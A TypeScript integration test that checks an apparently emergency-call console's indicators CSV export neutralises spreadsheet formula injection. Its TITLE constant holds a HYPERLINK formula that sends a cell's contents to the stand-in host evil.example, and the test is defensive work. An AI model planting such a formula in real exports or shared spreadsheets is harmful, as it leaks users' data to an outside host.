// A criterion title beginning with "=" (an imported index is outside our control) reaches the
// indicators as data, and the CSV the console exports from them keeps it inert (issue 15, hole 7).
import { toCsv, parseCsv } from '@amk/domain';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Indicators } from '@amk/contracts';
import type { App } from '../src/app.js';
import { createPrisma } from '@amk/db';
import { createCall, createCentre, createUser } from './support/factories.js';
import { buildTestApp, databaseUrl } from './support/test-app.js';
import { cookieFor } from './support/integration.js';

const prisma = createPrisma(databaseUrl(), 3);
let app: App;
/** A supervisor of a centre made for this file, whose indicators hold only this file's call. */
let supervisor: string;
let callId: string;
const TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"Se her")';

beforeAll(async () => {
  app = await buildTestApp(prisma);
  await prisma.triageCriterion.create({ data: { code: 'H.41.01', urgency: 'H', chapter: 41, chapterTitle: TITLE, text: '@SUM(1+1)' } });
  const centre = await createCentre(prisma);
  supervisor = (await createUser(prisma, centre.id, { role: 'supervisor' })).username;
  callId = (await createCall(prisma, centre.id, { state: 'ENDED', ringingAt: new Date('2024-03-05T10:00:00Z'), criterionCode: 'H.41.01' }))
    .id;
});
afterAll(async () => {
  // later files see the index as seeded, and no call names a criterion it no longer has
  await prisma.call.delete({ where: { id: callId } });
  await prisma.triageCriterion.delete({ where: { code: 'H.41.01' } });
  await app.close();
  await prisma.$disconnect();
});

describe('CSV export of the indicators', () => {
  it('neutralises a chapter title that a spreadsheet would run as a formula', async () => {
    const res = await app.inject({
      method: 'GET',
      url: '/api/v1/indicators?from=2024-03-01T00:00:00Z&to=2024-03-31T00:00:00Z',
      headers: { cookie: await cookieFor(app, supervisor) },
    });
    expect(res.statusCode).toBe(200);
    const data = res.json() as Indicators;
    expect(data.callsByChapter).toContainEqual(expect.objectContaining({ chapter: 41, chapterTitle: TITLE }));
    // the rows the console's "by chapter" table exports
    const csv = toCsv(
      data.callsByChapter.map((c) => ({ kapittel: c.chapter ?? '–', tittel: c.chapterTitle ?? 'Ikke triagert', samtaler: c.calls })),
    );
    const cells = parseCsv(csv, ';').records.flatMap((r) => r.fields);
    expect(cells).toContain(`'${TITLE}`);
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });
});
